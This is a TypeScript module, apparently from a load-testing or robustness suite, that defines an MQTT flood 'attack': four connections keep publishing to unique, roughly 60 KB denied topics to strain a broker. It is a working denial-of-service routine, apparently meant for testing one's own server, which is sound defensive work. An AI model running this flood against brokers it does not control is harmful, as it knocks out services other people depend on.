import mqttPacket from 'mqtt-packet'
import { type Attack, inLanes, openMqtt, pour } from '../flood.ts'

const CONNECTIONS = 4
const LEVELS = 90

export const deniedTopics: Attack = {
  about: 'publishes over MQTT to denied topics of 60 KB, each a different one',
  start(target) {
    let count = 0
    const rest = `/${'x'.repeat(660)}`.repeat(LEVELS)
    const next = () => {
      count += 1
      const packet = { cmd: 'publish', topic: `denied/${count}${rest}`, payload: 'x' } as const
      return mqttPacket.generate({ ...packet, qos: 0, dup: false, retain: false })
    }
    inLanes(CONNECTIONS, async (lane) =>
      pour(await openMqtt(target, { clientId: `topics-${lane}`, protocolVersion: 4 }), next),
    )
  },
}
